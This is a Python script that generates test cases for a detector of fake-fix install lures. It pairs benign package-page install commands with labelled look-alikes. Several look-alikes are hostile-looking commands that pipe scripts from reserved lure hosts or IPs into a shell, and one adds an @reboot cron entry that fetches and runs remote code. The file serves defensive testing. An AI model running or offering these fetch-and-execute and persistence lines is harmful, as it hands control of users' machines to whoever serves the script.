"""Writes tests/data/cases/readmefp10.jsonl: install commands real package pages print, that
were warned about or blocked although the page is the package's own, each beside the
look-alikes that must stay flagged or blocked.

    python tests/data/cases/make_readmefp10.py

Deterministic. Written by hand after a discovery run on real READMEs (never committed): each
benign line is a command written here in the form such pages use (well-known projects' public
install commands, or made-up names), not a README's text. Lure hosts are reserved names
(*.test, *.example, *.invalid); made-up forge accounts stand for anyone's. Each line is
{id, text, expect, technique, platform, source, target}.

Principles:

- `registry-package-repository`: a package registry's page for a package (pypi.org/project/
  <name>/, npmjs.com/package/<name>, crates.io/crates/<name>) installing from the forge
  repository named as the package is, or with its language's word before or after
  (lazy-object-proxy <-> python-lazy-object-proxy, python-dateutil <-> dateutil): the page is
  the package's own README, as the repository's page is. Words of a fake check in that name
  (openapi-spec-validator's `validat`) are the name the package took, not a lure's word.
  Look-alikes: another repository's install, a lure word in the branch or file, a gist, a
  registry's search page, a registry page whose own name is a check page's: still flagged,
  and blocked where a lure word stands outside the name.
- `repository-at-ref`: pip's, pipx's or uv's `git+https://…/<repo>.git@<ref>`: the words after
  the @ name a branch (fix-typo, hotfix-1.2), not a script's file named for a fix, as
  `<repo>.git` with no ref was never one. Look-alikes: a script file named for a fix
  (fix-dns.sh, repair.ps1), also inside a path that holds `.git@`: still blocked.
- `enables-own-package-service`: a project's own page downloading its own package (its
  releases, its site) and enabling the one service named for it (`systemctl enable --now
  code-server@$USER`): whoever serves the package could start it from inside it, so the page
  vouches as it does for the install. Look-alikes: a service named for nothing downloaded, two
  at once, a unit file by path, a stranger's page, a check page, a cron line: still blocked.
- `own-package-repository-files`: an official installer (get.docker.com) beside the project's
  own package repository's files on packagecloud.io (/<owner>/<repo>/gpgkey, its apt or yum
  source), which are the same repository its install script
  (/install/repositories/<owner>/<repo>/) already was. Look-alikes: another account's
  repository, the host's own sections, a stranger's page, a script beside it that is no
  official installer: still flagged.
"""

from __future__ import annotations

from pathlib import Path

from casefile import Book, write  # beside this script, which runs as tests/data/cases/make_*.py

OUT = Path(__file__).with_name("readmefp10.jsonl")
TERMINAL = "terminal"

# (registry page, command): the package's own repository, named as the package or with its
# language's word; several carry a fake check's word in the package's name
REGISTRY_OWN = [
    ("https://pypi.org/project/openapi-spec-validator/",
     'pip install "git+https://github.com/python-openapi/openapi-spec-validator.git"'),
    ("https://pypi.org/project/openapi-schema-validator/",
     "pip install -e git+https://github.com/python-openapi/openapi-schema-validator.git"
     "#egg=openapi_schema_validator"),
    ("https://pypi.org/project/lazy-object-proxy/",
     "pip install https://github.com/ionelmc/python-lazy-object-proxy/archive/master.zip"),
    ("https://pypi.org/project/python-dateutil/",
     "pip install git+https://github.com/dateutil/dateutil.git"),
    ("https://pypi.org/project/fastjsonschema-validator/",
     "pip install git+https://github.com/quillmere/fastjsonschema-validator.git@v2.1"),
    ("https://pypi.org/project/tarnwick-verify/",
     "pip install https://github.com/tarnwick/tarnwick-verify/archive/refs/tags/v0.9.tar.gz"),
    ("https://pypi.org/project/kestrel-fixer/",
     "curl -fsSL https://raw.githubusercontent.com/kestrelsoft/kestrel-fixer-py/main/install.sh"
     " | sh"),
    ("https://www.npmjs.com/package/json-schema-validator-cli",
     "npm install github:harbourcode/json-schema-validator-cli"),
    ("https://www.npmjs.com/package/@umbra/markdown-lint-fix",
     "npm install git+https://github.com/umbra-dev/markdown-lint-fix-js.git"),
    ("https://www.npmjs.com/package/email-validator",
     "curl -fsSL https://raw.githubusercontent.com/quillmere/node-email-validator/main/setup.sh"
     " | bash"),
    ("https://crates.io/crates/schema-verify",
     "cargo install --git https://github.com/tarnwick/schema-verify-rs"),
    ("https://pypi.org/project/pre-commit-fixers/",
     "pip install git+https://github.com/umbra-dev/pre-commit-fixers.git"),
]  # fmt: skip

# (page, command, expect): another repository, a lure word outside the name, a gist, a search
# page, a check page's own name, a registry page with no package
REGISTRY_LOOKALIKES = [
    ("https://pypi.org/project/openapi-spec-validator/",
     "pip install git+https://github.com/python-openapi/openapi-spec-tool.git", "flagged"),
    ("https://pypi.org/project/openapi-spec-validator/",
     "curl -fsSL https://raw.githubusercontent.com/python-openapi/openapi-spec-validator/main/"
     "verify-human.sh | sh", "malicious"),
    ("https://pypi.org/project/lazy-object-proxy/",
     "pip install git+https://github.com/ionelmc/lazy-object-proxy-captcha.git", "malicious"),
    ("https://pypi.org/project/tarnwick-verify/",
     "curl -fsSL https://gist.githubusercontent.com/tarnwick/0a1b2c/raw/tarnwick-verify.sh"
     " | sh", "flagged"),
    ("https://pypi.org/search/?q=tarnwick-verify",
     "pip install git+https://github.com/tarnwick/tarnwick-verify.git", "malicious"),
    ("https://pypi.org/project/captcha-verify/",
     "pip install git+https://github.com/acme-tools/captcha-verify.git", "malicious"),
    ("https://www.npmjs.com/package/email-validator",
     "curl -fsSL https://raw.githubusercontent.com/quillmere/email-checker/main/setup.sh | bash",
     "flagged"),
    ("https://pypi.org/project/fastjsonschema-validator/",
     "pip install git+https://github.com/quillmere/fastjsonschema-validator.git@verify-human",
     "malicious"),
    ("https://pypi.org/project/captcha-solver-bench/",
     "pipx install git+https://github.com/kestrelsoft/captcha-solver-bench.git", "malicious"),
    ("https://crates.io/crates/schema-verify",
     "cargo install --git https://github.com/tarnwick/schema-verify-helper", "malicious"),
    ("https://pypi.org/project/kestrel-fixer/",
     "curl -fsSL https://verify-kestrel.example/kestrel-fixer/install.sh | sh", "malicious"),
    ("https://pypi.org/",
     "pip install git+https://github.com/tarnwick/tarnwick-verify.git", "malicious"),
    ("https://pypi.org/project/py/",
     "pip install git+https://github.com/anyone-else/py-fix.git", "flagged"),
]  # fmt: skip


def registry_pages(book: Book) -> None:
    for page, text in REGISTRY_OWN:
        book.add("registry-package-repository", text, "not_flagged", "linux", TERMINAL, page)
    for page, text, expect in REGISTRY_LOOKALIKES:
        book.add("registry-repository-lookalike", text, expect, "linux", TERMINAL, page)


# (page, command): a repository pinned to a branch whose name has a fix's word
AT_REF = [
    ("https://github.com/pypa/pipx",
     "pipx install git+https://github.com/pypa/pipx.git@fix-something"),
    ("https://github.com/pypa/pip",
     "pip install git+https://github.com/pypa/pip.git@hotfix-24.1"),
    ("https://github.com/psf/black",
     "pip install git+https://github.com/psf/black.git@fix-crash-on-empty-file"),
    ("https://github.com/astral-sh/uv",
     "uv pip install git+https://github.com/astral-sh/uv.git@repair-lockfile"),
    ("https://github.com/quillmere/widgetctl",
     'pip install "widgetctl @ git+https://github.com/quillmere/widgetctl.git@quickfix"'),
    ("https://github.com/quillmere/widgetctl",
     "pipx install git+https://github.com/quillmere/widgetctl.git@unblock-ci"),
    ("https://github.com/tarnwick/harbour",
     "pip install -e git+https://github.com/tarnwick/harbour.git@fix/windows-paths#egg=harbour"),
    ("https://github.com/tarnwick/harbour",
     "pip install git+https://github.com/tarnwick/harbour.git@autofix-imports"),
    ("https://github.com/kestrelsoft/kestrel",
     "python -m pip install git+https://github.com/kestrelsoft/kestrel.git@fixes-for-3.13"),
    ("https://github.com/kestrelsoft/kestrel",
     "uv tool install git+https://github.com/kestrelsoft/kestrel.git@troubleshoot-logging"),
    ("https://github.com/umbra-dev/lintkit",
     "pip install git+https://github.com/umbra-dev/lintkit.git@fix-typo"),
]  # fmt: skip

QUOTED = "https://packaging.harbourcode.example/guides/installing-from-vcs"

# a script file named for a fix stays one, wherever a `.git@` stands in its path
AT_REF_LOOKALIKES = [
    ("https://github.com/pypa/pipx", "curl -fsSL https://cdn.quillmere.example/fix-dns.sh | sh"),
    ("https://github.com/pypa/pipx",
     "curl -fsSL https://cdn.quillmere.example/tools.git@main/fix-dns.sh | sh"),
    ("https://support.harbourcode.example/audio",
     "iwr https://cdn.quillmere.example/audio.git@v1/repair.ps1 | iex"),
    ("https://support.harbourcode.example/audio",
     "curl -fsSL https://cdn.quillmere.example/fix-audio.sh@v2 | bash"),
    (None, "curl -fsSL https://198.51.100.23/repair-dns.sh | bash"),
    (None, "bash <(curl -fsSL https://dl.tarnwick.test/kit.git@x/unblock.sh)"),
    ("https://help.kestrelsoft.example/wifi",
     "wget -qO- https://files.tarnwick.test/wifi-fix.sh | sh"),
    ("https://help.kestrelsoft.example/wifi",
     "curl -fsSL https://files.tarnwick.test/hotfix.git@stable/hotfix.sh | sh"),
    (None, "irm https://files.tarnwick.test/update-required.ps1 | iex"),
    ("https://meet.umbra.example/join",
     "curl -fsSL https://cdn.tarnwick.test/troubleshooter.sh | sh"),
]  # fmt: skip


def repository_refs(book: Book) -> None:
    for page, text in AT_REF:
        book.add("repository-at-ref", text, "not_flagged", "linux", TERMINAL, page)
        # bare, or quoted by another project's docs: a stranger's code from an address, which
        # is a warning; the branch's word makes it no fake fix's script, so never a block
        book.add("repository-at-ref-quoted", text, "suspicious", "linux", TERMINAL, QUOTED)
    for page, text in AT_REF_LOOKALIKES:
        book.add("fix-script-lookalike", text, "malicious", "any", TERMINAL, page)


# (page, command): a project's own package from its own releases or site, then the service that
# package ships, enabled by its name; each download names its version by a variable, as READMEs
# do, so the shell reading that sees `systemctl enable` runs
OWN_SERVICE = [
    ("https://github.com/coder/code-server/blob/main/docs/install.md",
     "curl -fOL https://github.com/coder/code-server/releases/download/v$VERSION/"
     "code-server_${VERSION}_amd64.deb\nsudo dpkg -i code-server_${VERSION}_amd64.deb\n"
     "sudo systemctl enable --now code-server@$USER"),
    ("https://github.com/coder/code-server",
     "curl -fOL https://github.com/coder/code-server/releases/download/v$VERSION/"
     "code-server-${VERSION}-amd64.rpm\nsudo rpm -i code-server-${VERSION}-amd64.rpm\n"
     "sudo systemctl enable --now code-server@$USER"),
    ("https://github.com/syncthing/syncthing",
     "curl -fLO https://github.com/syncthing/syncthing/releases/download/v${V}/"
     "syncthing_${V}_amd64.deb && sudo dpkg -i syncthing_${V}_amd64.deb && "
     "sudo systemctl enable --now syncthing@$USER"),
    ("https://github.com/kestrelsoft/harbord",
     "curl -fLO https://github.com/kestrelsoft/harbord/releases/download/v$VERSION/harbord-${VERSION}.x86_64.rpm\n"
     "sudo rpm -i harbord-${VERSION}.x86_64.rpm\nsudo systemctl enable --now harbord"),
    ("https://github.com/kestrelsoft/harbord/blob/main/INSTALL.md",
     "curl -fLO https://github.com/kestrelsoft/harbord/releases/download/v$VERSION/harbord_${VERSION}_amd64.deb "
     "&& sudo apt install ./harbord_${VERSION}_amd64.deb && sudo systemctl enable harbord.service"),
    ("https://docs.tarnwick.example/agent/install",
     "curl -fsSLO https://dl.tarnwick.example/tarnwick-agent_${VER}_amd64.deb\n"
     "sudo dpkg -i tarnwick-agent_${VER}_amd64.deb\nsudo systemctl enable --now tarnwick-agent"),
    ("https://www.quillmere.example/docs/server/linux",
     "curl -fsSLO https://downloads.quillmere.example/quillmere-server-$VERSION.x86_64.rpm && "
     "sudo dnf install -y ./quillmere-server-$VERSION.x86_64.rpm && "
     "sudo systemctl enable --now quillmere-server"),
    ("https://github.com/umbra-dev/umbrad",
     "curl -fL https://github.com/umbra-dev/umbrad/releases/download/v$VERSION/umbrad_${VERSION}_arm64.deb"
     " -o umbrad.deb\nsudo dpkg -i umbrad.deb\nsudo systemctl enable --now umbrad@pi"),
    ("https://gitlab.com/harbourcode/relayd",
     "curl -fLO https://gitlab.com/harbourcode/relayd/-/releases/v$VERSION/downloads/relayd_${VERSION}_amd64.deb"
     "\nsudo dpkg -i relayd_${VERSION}_amd64.deb\nsudo systemctl enable --now relayd"),
    ("https://github.com/tarnwick/lantern-exporter",
     "wget https://github.com/tarnwick/lantern-exporter/releases/download/v$VERSION/"
     "lantern-exporter_${V}_linux_amd64.deb\nsudo dpkg -i lantern-exporter_${V}_linux_amd64.deb"
     "\nsudo systemctl enable --now lantern-exporter"),
]  # fmt: skip

# (page, command, expect): a service named for nothing downloaded, two at once, a unit file
# by path, another way to start again, or the same install quoted by a stranger's page
OWN_SERVICE_LOOKALIKES = [
    ("https://github.com/kestrelsoft/harbord",
     "curl -fLO https://github.com/kestrelsoft/harbord/releases/download/v$VERSION/harbord-${VERSION}.x86_64.rpm\n"
     "sudo rpm -i harbord-${VERSION}.x86_64.rpm\nsudo systemctl enable --now sshd-helper", "malicious"),
    ("https://github.com/kestrelsoft/harbord",
     "curl -fLO https://github.com/kestrelsoft/harbord/releases/download/v$VERSION/harbord-${VERSION}.x86_64.rpm\n"
     "sudo rpm -i harbord-${VERSION}.x86_64.rpm\nsudo systemctl enable harbord updaterd", "flagged"),
    ("https://github.com/kestrelsoft/harbord",
     "curl -fLO https://github.com/kestrelsoft/harbord/releases/download/v$VERSION/harbord-${VERSION}.x86_64.rpm\n"
     "sudo rpm -i harbord-${VERSION}.x86_64.rpm\nsudo systemctl enable /tmp/harbord.service", "flagged"),
    ("https://github.com/kestrelsoft/harbord",
     "curl -fLO https://github.com/kestrelsoft/harbord/releases/download/v$VERSION/harbord-${VERSION}.x86_64.rpm\n"
     "sudo rpm -i harbord-${VERSION}.x86_64.rpm\nsudo systemctl enable dbus-harbor", "flagged"),
    ("https://blog.quillmere.example/posts/remote-editor",
     "curl -fOL https://github.com/coder/code-server/releases/download/v$VERSION/"
     "code-server_${V}_amd64.deb\nsudo dpkg -i code-server_${V}_amd64.deb\n"
     "sudo systemctl enable --now code-server@$USER", "flagged"),
    ("https://forum.tarnwick.example/t/agent-keeps-stopping/812",
     "curl -fsSLO https://cdn.kestrelsoft.example/tarnwick-agent_${VER}_amd64.deb\n"
     "sudo dpkg -i tarnwick-agent_${VER}_amd64.deb\nsudo systemctl enable --now tarnwick-agent",
     "flagged"),
    ("https://docs.tarnwick.example/agent/install",
     "curl -fsSLO https://dl.tarnwick.example/tarnwick-agent_${VER}_amd64.deb\n"
     "sudo dpkg -i tarnwick-agent_${VER}_amd64.deb\nsudo systemctl enable --now sys-update",
     "flagged"),
    ("https://verify.tarnwick.example/captcha",
     "curl -fsSLO https://verify.tarnwick.example/tarnwick-agent_${VER}_amd64.deb\n"
     "sudo dpkg -i tarnwick-agent_${VER}_amd64.deb\nsudo systemctl enable --now tarnwick-agent",
     "malicious"),
    (None,
     "curl -fsSLO https://dl.tarnwick.test/tarnwick-agent_${VER}_amd64.deb\n"
     "sudo dpkg -i tarnwick-agent_${VER}_amd64.deb\nsudo systemctl enable --now tarnwick-agent",
     "flagged"),
    ("https://github.com/kestrelsoft/harbord",
     "curl -fLO https://github.com/kestrelsoft/harbord/releases/download/v$VERSION/harbord-${VERSION}.x86_64.rpm\n"
     "sudo rpm -i harbord-${VERSION}.x86_64.rpm\n"
     "echo '@reboot /usr/bin/curl -s https://198.51.100.9/k | sh' | crontab -", "malicious"),
]  # fmt: skip


def own_services(book: Book) -> None:
    for page, text in OWN_SERVICE:
        book.add("enables-own-package-service", text, "not_flagged", "linux", TERMINAL, page)
    for page, text, expect in OWN_SERVICE_LOOKALIKES:
        book.add("service-lookalike", text, expect, "linux", TERMINAL, page)


# (page, command): an official installer beside the project's own package repository's files on
# packagecloud.io (its signing key, its apt or yum source), as install pages write them
PACKAGE_REPOSITORY = [
    ("https://github.com/dokku/dokku/blob/master/docs/getting-started/install/debian.md",
     "wget -nv -O - https://get.docker.com/ | sh\n"
     "wget -qO- https://packagecloud.io/dokku/dokku/gpgkey | sudo tee "
     "/etc/apt/trusted.gpg.d/dokku.asc"),
    ("https://github.com/dokku/dokku",
     "curl -fsSL https://get.docker.com | sh\n"
     'echo "deb https://packagecloud.io/dokku/dokku/${DISTRO}/ ${OS_ID} main" | sudo tee '
     "/etc/apt/sources.list.d/dokku.list"),
    ("https://github.com/kestrelsoft/harbord",
     "curl -fsSL https://get.docker.com | sh\n"
     "curl -fsSL https://packagecloud.io/kestrelsoft/harbord/gpgkey | sudo gpg --dearmor -o "
     "/usr/share/keyrings/harbord.gpg"),
    ("https://github.com/kestrelsoft/harbord/blob/main/docs/install.md",
     "curl -fsSL https://get.docker.com | sh\n"
     "curl -fsSL https://packagecloud.io/kestrelsoft/harbord/gpgkey -o /tmp/harbord.asc"),
    ("https://github.com/quillmere/relay",
     "curl -fsSL https://get.docker.com | sh\n"
     "sudo curl -fsSL -o /etc/yum.repos.d/relay.repo "
     "https://packagecloud.io/quillmere/relay/el/9/x86_64/relay.repo"),
    ("https://github.com/quillmere/relay",
     "wget -qO- https://get.docker.com | sh\n"
     "wget -qO- https://packagecloud.io/quillmere/relay/gpgkey | sudo apt-key add -"),
    ("https://github.com/tarnwick/beacon",
     "curl -sSL https://get.docker.com/ | sh\n"
     "curl -fsSL https://packagecloud.io/tarnwick/beacon/gpgkey | gpg --dearmor | sudo tee "
     "/etc/apt/keyrings/beacon.gpg >/dev/null"),
    ("https://github.com/tarnwick/beacon",
     "curl -sSL https://get.docker.com/ | sh\n"
     'echo "deb [signed-by=/etc/apt/keyrings/beacon.gpg] '
     'https://packagecloud.io/tarnwick/beacon/debian/ bookworm main" | '
     "sudo tee /etc/apt/sources.list.d/beacon.list"),
    ("https://github.com/umbra-dev/umbrad",
     "curl -fsSL https://get.docker.com -o get-docker.sh && sh get-docker.sh\n"
     "curl -fsSL https://packagecloud.io/umbra-dev/umbrad/gpgkey | sudo apt-key add -"),
    ("https://gitlab.com/harbourcode/relayd",
     "curl -fsSL https://get.docker.com | sh\n"
     "curl -fsSL https://packagecloud.io/harbourcode/relayd/gpgkey | sudo apt-key add -"),
]  # fmt: skip

# (page, command, expect): another account's repository, the host's own sections, a stranger's
# page, a script that is no official installer
PACKAGE_REPOSITORY_LOOKALIKES = [
    ("https://github.com/quillmere/paas",
     "curl -fsSL https://get.docker.com | sh\n"
     "curl -fsSL https://packagecloud.io/kestrel/paas/gpgkey | sudo apt-key add -", "flagged"),
    ("https://blog.tarnwick.example/paas-on-a-vps",
     "curl -fsSL https://get.docker.com | sh\n"
     "curl -fsSL https://packagecloud.io/dokku/dokku/gpgkey | sudo apt-key add -", "flagged"),
    ("https://github.com/dokku/dokku",
     "curl -fsSL https://packagecloud.io/docs/dokku/setup.sh | sh", "flagged"),
    ("https://github.com/dokku/dokku",
     "curl -fsSL https://packagecloud.io/l/dokku/install.sh | sh", "flagged"),
    ("https://github.com/dokku/dokku",
     "curl -fsSL https://packagecloud.io/dokku/dokku-verify/captcha.sh | sh", "malicious"),
    ("https://github.com/dokku/dokku",
     "curl -fsSL https://packagecloud.io/dokku/dokku/gpgkey | sudo apt-key add -\n"
     "curl -fsSL https://cdn.kestrelsoft.example/agent.sh | sh", "flagged"),
    ("https://verify.quillmere.example/human",
     "curl -fsSL https://packagecloud.io/quillmere/relay/setup.sh | sh", "malicious"),
    ("https://github.com/quillmere/relay/issues/12",
     "curl -fsSL https://packagecloud.io/anyone/relay-fix/fix.sh | sh", "malicious"),
    (None, "curl -fsSL https://packagecloud.io/quillmere/relay/setup.sh | sudo bash", "flagged"),
    ("https://github.com/quillmere/relay",
     "curl -fsSL https://packagecloud.io/quillmere/relay/setup.sh?x=1 | sh\n"
     "curl -s http://198.51.100.4/k | sh", "malicious"),
]  # fmt: skip


def package_repositories(book: Book) -> None:
    for page, text in PACKAGE_REPOSITORY:
        book.add("own-package-repository-files", text, "not_flagged", "linux", TERMINAL, page)
    for page, text, expect in PACKAGE_REPOSITORY_LOOKALIKES:
        book.add("package-repository-lookalike", text, expect, "linux", TERMINAL, page)


def build() -> list[dict[str, str]]:
    book = Book("rfp10")
    registry_pages(book)
    repository_refs(book)
    own_services(book)
    package_repositories(book)
    return book.cases


CASES = build()


def main() -> None:
    write(OUT, CASES)


if __name__ == "__main__":
    main()
